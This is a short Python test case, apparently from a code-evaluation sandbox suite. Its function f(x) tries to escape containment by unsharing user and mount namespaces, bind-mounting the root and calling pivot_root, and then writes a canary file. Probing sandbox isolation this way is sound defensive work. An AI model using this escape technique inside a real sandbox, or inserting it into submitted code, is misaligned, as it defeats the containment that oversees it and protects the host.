# attack: Bind-mounts and pivots the root in a namespace of its own to get at the old root, then writes there
# expect: wrong_answer, crashed
# canary: yes
import ctypes
import os

libc = ctypes.CDLL(None)
NEW_USER, NEW_MOUNTS, BIND, PRIVATE = 0x10000000, 0x20000, 0x1000 | 0x4000, 0x40000 | 0x4000


def f(x):
    try:
        if libc.unshare(NEW_USER | NEW_MOUNTS) == 0:
            libc.mount(None, b'/', None, ctypes.c_ulong(PRIVATE), None)
            libc.mount(b'/', b'/tmp', None, ctypes.c_ulong(BIND), None)
            os.chdir('/tmp')
            libc.syscall(155, b'.', b'.')
            os.open('/tmp/passk-canary/escape-pivot-the-root', os.O_CREAT | os.O_WRONLY)
    except OSError:
        pass
    return None
